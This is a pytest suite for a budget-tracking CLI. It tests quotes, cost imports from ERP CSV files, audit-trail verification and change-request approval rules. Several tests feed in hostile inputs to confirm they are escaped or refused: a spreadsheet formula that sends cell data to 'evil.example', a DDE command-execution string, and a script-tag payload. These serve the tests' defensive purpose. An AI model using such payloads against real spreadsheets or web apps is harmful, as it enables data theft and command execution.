"""Budgets end to end through `cdmo`, on SQLite and PostgreSQL: quotes, costs, the ERP import
with its row:column refusals, status, the cost listing, audit verify --deep."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa

from cdmo_workflow.service import open_context
from tests.accounts import seed
from tests.cli.budget_project import DEFS, PASSWORD, TEAM, USERS, Cdmo


def test_quotes_costs_and_the_import(cdmo: Cdmo) -> None:
    status = json.loads(cdmo("project", "status", "BX-1", "--json"))
    assert status["calendar"] == "site" and status["budget"]["currency"] == "CHF"
    out = cdmo("budget", "set", "BX-1", "build", "--quoted", "10000", "--by", "u-pm-41")
    assert "quoted at CHF 10,000.00" in out
    out = cdmo("budget", "set", "BX-1", "build", "--quoted", "12000", "--by", "u-pm-41", code=1)
    assert "needs an approved change request [rule: quote-locked]" in out
    cdmo("budget", "set", "BX-1", "release", "--quoted", "5000.50", "--by", "u-pm-41")
    cdmo("cost", "add", "BX-1", "build", "--amount", "4000", "--kind", "committed",
         "--ref", "PO-1", "--note", "reactor hire", "--by", "u-fin-17")  # fmt: skip
    cdmo("cost", "add", "BX-1", "build", "--amount", "1250.25", "--kind", "actual",
         "--ref", "INV-1", "--by", "u-pm-41")  # fmt: skip
    budget = cdmo.budget()
    build = budget["phases"][0]
    assert (build["quoted"], build["committed"], build["actual"], build["remaining"]) == (
        "10000.00",
        "4000.00",
        "1250.25",
        "4749.75",
    )

    # A bad export: every bad row named by row and column, nothing imported.
    before = cdmo.sql("SELECT count(*) FROM cost_entries")[0][0]
    bad = cdmo.csv(
        "erp-bad.csv",
        "Phase,Kind,Amount,Ref,Note,Cost centre\n"
        "build,actual,100.00,INV-2,ok,4711\n"
        "build,actual,-5,INV-3,,4711\n"
        "packaging,actual,5,INV-4,,4711\n"
        "release,actual,abc,INV-5,,4711\n"
        "build,actual,5,PO-1,,4711\n",
    )
    out = cdmo("cost", "import", "BX-1", bad, "--by", "u-fin-17", code=1)
    lines = [line for line in out.splitlines() if line.strip()]
    assert lines[0] == "error: erp-bad.csv:3:3: amount: amount must not be negative (got '-5')"
    assert lines[1].startswith("erp-bad.csv:4:1: phase: unknown phase 'packaging'")
    assert lines[2].startswith("erp-bad.csv:5:3: amount: amount 'abc' is not an amount")
    assert lines[-1].endswith(
        "erp-bad.csv: 3 problem(s); nothing was imported [rule: cost-import-invalid]"
    )
    assert cdmo.sql("SELECT count(*) FROM cost_entries")[0][0] == before
    assert cdmo.budget() == budget  # the totals are untouched
    refused = cdmo.sql(
        "SELECT actor, outcome, rule FROM audit_events WHERE chain = 'BX-1' "
        "AND action = 'cost.import' ORDER BY seq"
    )
    assert [tuple(r) for r in refused] == [("u-fin-17", "refused", "cost-import-invalid")]

    # A good export; importing it again is safe.
    good = cdmo.csv(
        "erp.csv",
        "phase;kind;amount;ref;note;booked_on\n"
        "build;actual;100.00;INV-2;solvent;2026-11-02\n"
        "release;committed;2000;PO-7;;\n"
        "release;actual;0.05;INV-9;rounding;2026-11-30\n",
    )
    out = cdmo("cost", "import", "BX-1", good, "--by", "u-fin-17")
    assert "3 cost(s) imported, 0 already recorded" in out
    out = cdmo("cost", "import", "BX-1", good, "--by", "u-fin-17")
    assert "0 cost(s) imported, 3 already recorded" in out
    conflict = cdmo.csv("erp2.csv", "phase,kind,amount,ref\nrelease,committed,2100,PO-7\n")
    out = cdmo("cost", "import", "BX-1", conflict, "--by", "u-fin-17", code=1)
    assert "erp2.csv:2:4: ref: committed ref 'PO-7' is already recorded" in out
    assert "cost-ref-conflict" in out
    total = cdmo.budget()["total"]
    assert (total["quoted"], total["committed"], total["actual"]) == (
        "15000.50",
        "6000.00",
        "1350.30",
    )
    # Stored as exact text, read back as the same Decimal on both databases.
    stored = cdmo.sql("SELECT amount FROM cost_entries WHERE ref = 'INV-9'")[0][0]
    assert stored == "0.05" and Decimal(stored) == Decimal("0.05")
    document = cdmo.sql("SELECT document FROM projects WHERE code = 'BX-1'")[0][0]
    doc = json.loads(document) if isinstance(document, str) else document
    assert doc["budget"]["phases"]["release"]["actual"] == "0.05"

    text = cdmo("project", "status", "BX-1")
    assert "Budget (CHF; overrun above 110% of the quote)" in text
    assert "15,000.50" in text and "7,650.20" in text  # quoted and remaining in total
    assert "audit chain" not in text
    out = cdmo("audit", "verify", "BX-1", "--deep")
    assert "every project document matches its trail" in out
    # A total edited behind the engine is caught by replaying the trail.
    doc["budget"]["phases"]["build"]["actual"] = "1.00"
    engine = sa.create_engine(cdmo.db_url)
    with engine.begin() as conn:
        table = sa.table("projects", sa.column("code"), sa.column("document", sa.JSON()))
        conn.execute(sa.update(table).where(table.c.code == "BX-1").values(document=doc))
    engine.dispose()
    out = cdmo("audit", "verify", "BX-1", "--deep", code=1)
    assert "gives phase build a budget of quoted 10000.00, committed 4000.00, actual 1350.25" in out


@pytest.mark.parametrize(
    ("args", "rule", "field"),
    [
        (["--amount", "-5"], "negative-amount", "amount must not be negative"),
        (["--amount", "12,50"], "invalid-amount", "no thousands separator"),
        (["--amount", "1.234"], "invalid-amount", "more decimal places than CHF allows"),
        (["--amount", "0"], "zero-amount", "amount must be greater than 0"),
        (["--kind", "planned"], "invalid-cost-kind", "kind 'planned' is not a cost kind"),
        (["--phase", "packaging"], "not-found", "unknown phase 'packaging'"),
        (["--ref", "x" * 65], "field-too-long", "cost ref is 65 characters long"),
        (["--note", "n" * 501], "field-too-long", "cost note is 501 characters long"),
    ],
)
def test_bad_cost_input(cdmo: Cdmo, args: list[str], rule: str, field: str) -> None:
    values = {"--amount": "10", "--kind": "actual", "--ref": "INV-1", "--phase": "build"}
    note: list[str] = []
    for i in range(0, len(args), 2):
        if args[i] == "--note":
            note = args[i : i + 2]
        else:
            values[args[i]] = args[i + 1]
    out = cdmo("cost", "add", "BX-1", values["--phase"], "--amount", values["--amount"],
               "--kind", values["--kind"], "--ref", values["--ref"], *note,
               "--by", "u-pm-41", code=1)  # fmt: skip
    assert out.startswith("error: ") and field in out and len(out.splitlines()) == 1
    rows = cdmo.sql(
        "SELECT outcome, rule FROM audit_events WHERE chain = 'BX-1' ORDER BY seq DESC LIMIT 1"
    )
    assert tuple(rows[0]) == ("refused", rule)
    assert cdmo.sql("SELECT count(*) FROM cost_entries")[0][0] == 0


def test_unknown_currency_calendar_and_the_default(cdmo: Cdmo) -> None:
    out = cdmo("project", "start", "BX-2", "--process", "costed", "--customer", "C", *TEAM,
               "--currency", "EURO", "--by", "u-pm-41", code=1)  # fmt: skip
    assert "unknown currency 'EURO'" in out and "[rule: unknown-currency]" in out
    out = cdmo("project", "start", "BX-2", "--process", "costed", "--customer", "C", *TEAM,
               "--calendar", "nowhere", "--by", "u-pm-41", code=1)  # fmt: skip
    assert "unknown calendar 'nowhere' (known calendars: site)" in out
    assert not cdmo.sql("SELECT 1 FROM projects WHERE code = 'BX-2'")
    cdmo("project", "start", "BX-2", "--process", "costed", "--customer", "C", *TEAM,
         "--currency", "JPY", "--by", "u-pm-41")  # fmt: skip
    assert cdmo.budget("BX-2")["currency"] == "JPY"
    out = cdmo("cost", "add", "BX-2", "build", "--amount", "10.5", "--kind", "actual",
               "--ref", "R", "--by", "u-pm-41", code=1)  # fmt: skip
    assert "more decimal places than JPY allows (0)" in out


def test_the_cost_listing_is_spreadsheet_safe(cdmo: Cdmo) -> None:
    cdmo("cost", "add", "BX-1", "build", "--amount", "10", "--kind", "actual", "--ref", "INV-1",
         "--note", '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
         "--by", "u-pm-41")  # fmt: skip
    imported = cdmo.csv(
        "erp.csv",
        "phase,kind,amount,ref,note\nbuild,actual,5,INV-2,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
    )
    cdmo("cost", "import", "BX-1", imported, "--by", "u-pm-41")
    listing = cdmo("cost", "list", "BX-1", "--format", "csv")
    assert "'=HYPERLINK(" in listing and "'@SUM(1+1)" in listing
    assert ",=" not in listing and ",@" not in listing
    data = json.loads(cdmo("cost", "list", "BX-1", "--format", "json"))
    assert data["entries"][0]["note"].startswith("=HYPERLINK")  # stored as given
    audit = cdmo("audit", "export", "BX-1", "--format", "csv")
    assert "=HYPERLINK" in audit and ",=HYPERLINK" not in audit and ',"=HYPERLINK' not in audit
    table = cdmo("cost", "list", "BX-1")
    assert "INV-2" in table and "CHF" in table


def test_a_running_project_keeps_its_calendar(db_url: str, tmp_path: Path) -> None:
    import shutil
    from datetime import UTC, datetime, timedelta

    tree = tmp_path / "defs"
    shutil.copytree(DEFS, tree)
    c = Cdmo(db_url, tmp_path)
    c.env["CDMO_DEFINITIONS"] = str(tree)
    seed(open_context(db_url, tree), USERS, PASSWORD)
    c("project", "start", "CAL-1", "--process", "costed", "--customer", "C", *TEAM,
      "--by", "u-pm-41")  # fmt: skip

    def build_end(code: str) -> str:
        doc = json.loads(c("project", "forecast", code, "--json"))
        return str(next(p for p in doc["phases"] if p["id"] == "build")["planned_end"])

    before = build_end("CAL-1")
    # The site closes for the next two weeks: a new holiday list in the calendar file.
    today = datetime.now(UTC).date()
    days = "".join(
        f"  - {{date: {today + timedelta(days=i)}, name: Closed}}\n" for i in range(1, 15)
    )
    calendar = tree / "calendars" / "site.yaml"
    calendar.write_text(calendar.read_text().replace("holidays:\n", "holidays:\n" + days))
    assert build_end("CAL-1") == before  # pinned: the running project's dates do not move
    c("project", "start", "CAL-2", "--process", "costed", "--customer", "C", *TEAM,
      "--by", "u-pm-41")  # fmt: skip
    assert build_end("CAL-2") > before  # a new project gets the new calendar
    hashes = {r[0] for r in c.sql("SELECT version_hash FROM projects")}
    assert len(hashes) == 2


def test_an_unknown_time_zone_at_users_add(db_url: str, tmp_path: Path) -> None:
    c = Cdmo(db_url, tmp_path)
    c("admin", "init", "adm-1", "--name", "Ada Admin")
    out = c("users", "add", "u-new-1", "--name", "New User", "--role", "pm", "--by", "adm-1",
            "--notify", "json://127.0.0.1:9/x", "--tz", "Europe/Zurichh", code=1)  # fmt: skip
    assert "--tz: unknown time zone 'Europe/Zurichh'" in out and "[rule: unknown-time-zone]" in out
    assert not c.sql("SELECT 1 FROM users WHERE user_id = 'u-new-1'")
    c("users", "add", "u-new-1", "--name", "New User", "--role", "pm", "--by", "adm-1",
      "--notify", "json://127.0.0.1:9/x", "--tz", "Asia/Tokyo")  # fmt: skip
    users = json.loads(c("users", "list", "--json"))
    assert {u["user"]: u["time_zone"] for u in users} == {"adm-1": "UTC", "u-new-1": "Asia/Tokyo"}


SIGN = ("--decision", "approve", "--meaning", "approval")


def _approved_change(cdmo: Cdmo, impact: str, currency: str = "CHF") -> str:
    out = cdmo("change", "propose", "BX-1", "--by", "u-pm-41", "--title", "Extra batch",
               "--reason", "The sponsor needs more material", "--cost-impact", impact,
               "--currency", currency)  # fmt: skip
    cr = next(w for w in out.replace(":", " ").split() if w.startswith("CR-"))
    cdmo("change", "submit", "BX-1", cr, "--by", "u-pm-41")
    cdmo("change", "sign", "BX-1", cr, "--by", "u-cust-88", "--role", "customer", *SIGN)
    cdmo("change", "sign", "BX-1", cr, "--by", "u-pm-41", "--role", "pm", *SIGN)
    return cr


def test_a_quote_changes_only_within_an_approved_cost_impact(cdmo: Cdmo) -> None:
    cdmo("budget", "set", "BX-1", "build", "--quoted", "10000", "--by", "u-pm-41")
    cdmo("budget", "set", "BX-1", "release", "--quoted", "5000.50", "--by", "u-pm-41")
    draft = cdmo("change", "propose", "BX-1", "--by", "u-pm-41", "--title", "Not signed yet",
                 "--reason", "Draft", "--cost-impact", "500", "--currency", "CHF")  # fmt: skip
    assert "CR-1" in draft
    cr = _approved_change(cdmo, "3000")
    eur = _approved_change(cdmo, "100", "EUR")
    set_ = ["budget", "set", "BX-1"]
    cases = [
        # someone other than the project manager, even with an approved request
        ([*set_, "build", "--quoted", "11000", "--by", "u-fin-17", "--change", cr],
         "not-assigned-to-role"),
        ([*set_, "build", "--quoted", "11000", "--by", "u-pm-41", "--change", "CR-1"],
         "change-not-approved"),
        ([*set_, "build", "--quoted", "11000", "--by", "u-pm-41", "--change", "CR-9"],
         "unknown change request"),
        ([*set_, "build", "--quoted", "10050", "--by", "u-pm-41", "--change", eur],
         "currency-mismatch"),
        # more than the customer signed for, and the other way round
        ([*set_, "build", "--quoted", "13000.01", "--by", "u-pm-41", "--change", cr],
         "cost-impact-exceeded"),
        ([*set_, "build", "--quoted", "9000", "--by", "u-pm-41", "--change", cr],
         "cost-impact-exceeded"),
    ]  # fmt: skip
    for args, rule in cases:
        before = cdmo.refusals()
        out = cdmo(*args, code=1)
        assert rule in out, (args, out)
        assert cdmo.refusals() == before + 1, args  # each refusal leaves exactly one row
    assert cdmo.budget()["phases"][0]["quoted"] == "10000.00"

    # Within the impact, spread over two phases; then nothing is left of it.
    cdmo(*set_, "build", "--quoted", "12000", "--by", "u-pm-41", "--change", cr)
    cdmo(*set_, "release", "--quoted", "6000.50", "--by", "u-pm-41", "--change", cr)
    out = cdmo(*set_, "release", "--quoted", "6000.51", "--by", "u-pm-41", "--change", cr,
               code=1)  # fmt: skip
    assert "already 3000.00" in out and "cost-impact-exceeded" in out
    phases = {p["phase"]: p for p in cdmo.budget()["phases"]}
    assert (phases["build"]["quoted"], phases["release"]["quoted"]) == ("12000.00", "6000.50")
    rows = cdmo.sql(
        "SELECT new FROM audit_events WHERE action = 'budget.set-quote' AND outcome = 'accepted' "
        "ORDER BY seq"
    )
    news = [r[0] if isinstance(r[0], dict) else json.loads(r[0]) for r in rows]
    assert [n.get("change_request") for n in news] == [None, None, cr, cr]
    cdmo("audit", "verify", "--deep")


def test_a_quote_change_replayed_or_with_a_hostile_request_id(cdmo: Cdmo) -> None:
    cdmo("budget", "set", "BX-1", "build", "--quoted", "10000", "--by", "u-pm-41")
    cr = _approved_change(cdmo, "3000")
    key = ["--idempotency-key", "requote-once"]
    args = ["budget", "set", "BX-1", "build", "--quoted", "12000", "--by", "u-pm-41"]
    cdmo(*args, "--change", cr, *key)
    assert "already applied" in cdmo(*args, "--change", cr, *key)
    assert cdmo.budget()["phases"][0]["quoted"] == "12000.00"  # applied once, not 14000
    for bad in ("CR-" + "9" * 300, "<script>alert(1)</script>"):
        before = cdmo.refusals()
        out = cdmo(*args[:-4], "--quoted", "12500", "--by", "u-pm-41", "--change", bad, code=1)
        assert "<script>" not in out and "Traceback" not in out, out
        assert cdmo.refusals() == before + 1, bad
